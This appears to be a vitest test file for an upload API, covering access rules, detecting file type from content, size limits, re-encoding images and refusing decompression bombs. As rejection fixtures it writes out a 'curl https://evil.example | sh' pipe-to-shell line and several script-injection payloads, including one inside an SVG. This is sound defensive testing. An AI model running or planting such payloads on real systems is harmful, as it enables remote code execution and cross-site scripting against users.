/**
 * POST /api/uploads/<kind> over real HTTP: who may upload what, the type read from the bytes (never
 * the name or the declared type), the limits (declared and while streaming), images re-encoded
 * without their metadata and within their size, a decompression bomb refused, a replaced file removed.
 */
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { uploadLimits } from '@/lib/uploads';
import { companies, users } from '@/server/db/schema';
import { testDatabaseKind, useTestDatabase } from './helpers/database';
import { createAccount } from './helpers/transports';
import { incomingFiles, minimalPdf, photo, pngDeclaring, rawUpload, storedFiles, upload, useUploadServer } from './helpers/uploads';

const db = useTestDatabase();
const server = useUploadServer(db);

async function avatarKeyOf(userId: string) {
  const [row] = await db().select({ key: users.avatarKey }).from(users).where(eq(users.id, userId));
  return row?.key ?? null;
}

/** Sends `total` bytes in 64 KB chunks without a Content-Length; stops when the answer comes. */
function streamUpload(kind: string, token: string, first: Buffer, total: number): Promise<{ status: number; sent: number }> {
  return new Promise((resolve, reject) => {
    let sent = 0;
    let answered = false;
    const req = http.request(`${server().base}/api/uploads/${kind}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'transfer-encoding': 'chunked' },
    });
    req.on('response', (res) => {
      answered = true;
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode ?? 0, sent }));
    });
    req.on('error', (error) => (answered ? undefined : reject(error)));
    const filler = Buffer.alloc(64 * 1024, 0x41);
    const pump = () => {
      while (!answered && sent < total) {
        const piece = sent === 0 ? first : filler;
        sent += piece.length;
        if (!req.write(piece)) return void req.once('drain', pump);
      }
      if (!answered) req.end();
    };
    pump();
  });
}

describe(`uploads: who may upload on ${testDatabaseKind}`, () => {
  it('answers 401 without a live session and 403 to a USER sending a cover or a document; nothing is stored', async () => {
    const image = await photo(64, 64, 'png');
    expect((await upload(server(), 'avatar', null, image)).status).toBe(401);
    expect((await upload(server(), 'avatar', 'not-a-token', image)).status).toBe(401);
    const user = await createAccount(db(), 'USER');
    expect(await upload(server(), 'cover', user.session.token, image)).toEqual({ status: 403, body: { error: 'errors:forbidden' } });
    expect((await upload(server(), 'document', user.session.token, minimalPdf)).status).toBe(403);
    expect(storedFiles(server().dir)).toEqual([]);
  });

  it('answers 404 for an unknown kind', async () => {
    const user = await createAccount(db(), 'USER');
    expect((await upload(server(), 'script', user.session.token, minimalPdf)).status).toBe(404);
  });
});

describe(`uploads: content, not names, on ${testDatabaseKind}`, () => {
  it('refuses a ".png" that is a script, a PDF declared as an image, and an SVG with a script', async () => {
    const { session } = await createAccount(db(), 'COMPANY');
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n<script>alert(1)</script>');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
    const invalid = { status: 415, body: { error: 'account:upload.invalidType' } };
    expect(await upload(server(), 'avatar', session.token, script, { 'content-type': 'image/png' })).toEqual(invalid);
    expect(await upload(server(), 'document', session.token, script, { 'content-type': 'application/pdf' })).toEqual(invalid);
    expect(await upload(server(), 'avatar', session.token, minimalPdf, { 'content-type': 'image/png' })).toEqual(invalid);
    expect(await upload(server(), 'cover', session.token, svg, { 'content-type': 'image/svg+xml' })).toEqual(invalid);
    expect(await upload(server(), 'document', session.token, svg, { 'content-type': 'image/png' })).toEqual(invalid);
    expect(await upload(server(), 'avatar', session.token, Buffer.from([0x89, 0x50]))).toEqual(invalid);
    expect(storedFiles(server().dir)).toEqual([]);
    expect(incomingFiles(server().dir)).toEqual([]);
  });

  it('stores a PDF declared as an image as a PDF document (the bytes decide)', async () => {
    const { session } = await createAccount(db(), 'TRANSPORT_COMPANY');
    const answer = await upload(server(), 'document', session.token, minimalPdf, { 'content-type': 'image/png' });
    expect(answer.status).toBe(201);
    expect(answer.body.type).toBe('application/pdf');
    expect(answer.body.key).toMatch(/^document-[0-9a-f]{32}-[0-9a-f]{8}\.pdf$/);
  });
});

describe(`uploads: images re-encoded on ${testDatabaseKind}`, () => {
  it('strips the metadata, keeps the format and scales an avatar to at most 512 × 512', async () => {
    const { user, session } = await createAccount(db(), 'USER');
    const original = await photo(1200, 900, 'jpeg');
    expect((await sharp(original).metadata()).exif).toBeDefined();
    const answer = await upload(server(), 'avatar', session.token, original);
    expect(answer.status).toBe(201);
    const key = answer.body.key ?? '';
    expect(key).toMatch(/^avatar-[0-9a-f]{32}-[0-9a-f]{8}\.jpg$/);
    expect(await avatarKeyOf(user.id)).toBe(key);
    const stored = fs.readFileSync(path.join(server().dir, key));
    const metadata = await sharp(stored).metadata();
    expect({ format: metadata.format, width: metadata.width, height: metadata.height, exif: metadata.exif }).toEqual({
      format: 'jpeg',
      width: 512,
      height: 512,
      exif: undefined,
    });
    expect(stored.includes(Buffer.from('Secret Model 9'))).toBe(false);
  });

  it('scales a cover to at most 1600 × 600', async () => {
    const { user, session } = await createAccount(db(), 'COMPANY');
    const answer = await upload(server(), 'cover', session.token, await photo(3200, 2400, 'webp'));
    expect(answer.status).toBe(201);
    const metadata = await sharp(path.join(server().dir, answer.body.key ?? '')).metadata();
    expect([metadata.format, metadata.width, metadata.height]).toEqual(['webp', 1600, 600]);
    const [company] = await db().select({ cover: companies.coverKey }).from(companies).where(eq(companies.ownerId, user.id));
    expect(company?.cover).toBe(answer.body.key);
  });

  it('refuses a tiny PNG that declares 20000 × 20000 pixels before decoding it', async () => {
    const { user, session } = await createAccount(db(), 'USER');
    const bomb = pngDeclaring(20_000);
    expect(bomb.length).toBeLessThan(10_000);
    expect(await upload(server(), 'avatar', session.token, bomb)).toEqual({ status: 422, body: { error: 'account:upload.tooManyPixels' } });
    expect(await avatarKeyOf(user.id)).toBeNull();
    expect(storedFiles(server().dir).filter((name) => name.startsWith('avatar-') && name.endsWith('.png'))).toEqual([]);
  });

  it('refuses an image whose bytes start right but do not decode', async () => {
    const { session } = await createAccount(db(), 'USER');
    const broken = Buffer.concat([(await photo(40, 40, 'png')).subarray(0, 40), Buffer.alloc(200, 7)]);
    expect(await upload(server(), 'avatar', session.token, broken)).toEqual({ status: 422, body: { error: 'account:upload.readFailed' } });
  });

  it('removes the replaced avatar file and serves only the new one', async () => {
    const { user, session } = await createAccount(db(), 'USER');
    const first = (await upload(server(), 'avatar', session.token, await photo(100, 100, 'png'))).body.key ?? '';
    expect(fs.existsSync(path.join(server().dir, first))).toBe(true);
    const second = (await upload(server(), 'avatar', session.token, await photo(120, 100, 'png'))).body.key ?? '';
    expect(second).not.toBe(first);
    expect(await avatarKeyOf(user.id)).toBe(second);
    expect(fs.existsSync(path.join(server().dir, first))).toBe(false);
    expect(fs.existsSync(path.join(server().dir, second))).toBe(true);
    expect((await fetch(`${server().base}/api/files/${first}`)).status).toBe(404);
    const served = await fetch(`${server().base}/api/files/${encodeURIComponent(second)}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(Buffer.from(await served.arrayBuffer())).toEqual(fs.readFileSync(path.join(server().dir, second)));
  });
});

describe(`uploads: limits on ${testDatabaseKind}`, () => {
  it('refuses a declared oversize body with 413 before reading it', async () => {
    const { session } = await createAccount(db(), 'USER');
    const head = [
      'POST /api/uploads/avatar HTTP/1.1',
      'Host: localhost',
      `Authorization: Bearer ${session.token}`,
      `Content-Length: ${uploadLimits.imageBytes + 1}`,
      '',
      '',
    ].join('\r\n');
    // Only 16 of the declared bytes are ever sent: the answer cannot wait for the rest.
    expect(await rawUpload(server(), head, Buffer.alloc(16))).toContain('413');
  });

  it('refuses an image body past 5 MB while it streams, long before 50 MB are sent; nothing stays', async () => {
    const { user, session } = await createAccount(db(), 'USER');
    const head = (await photo(16, 16, 'png')).subarray(0, 64);
    const { status, sent } = await streamUpload('avatar', session.token, head, 50 * 1024 * 1024);
    expect(status).toBe(413);
    expect(sent).toBeLessThan(20 * 1024 * 1024);
    expect(await avatarKeyOf(user.id)).toBeNull();
    await expect.poll(() => incomingFiles(server().dir)).toEqual([]);
  });

  it('lets a PDF document be larger than an image: 6 MB of PDF passes, 6 MB of image does not', async () => {
    const { session } = await createAccount(db(), 'COMPANY');
    const pdf = Buffer.concat([minimalPdf, Buffer.alloc(6 * 1024 * 1024, 0x20)]);
    expect((await upload(server(), 'document', session.token, pdf)).status).toBe(201);
    const head = (await photo(16, 16, 'png')).subarray(0, 64);
    expect((await streamUpload('document', session.token, head, 6 * 1024 * 1024)).status).toBe(413);
    expect((await streamUpload('document', session.token, minimalPdf, 11 * 1024 * 1024)).status).toBe(413);
  });
});
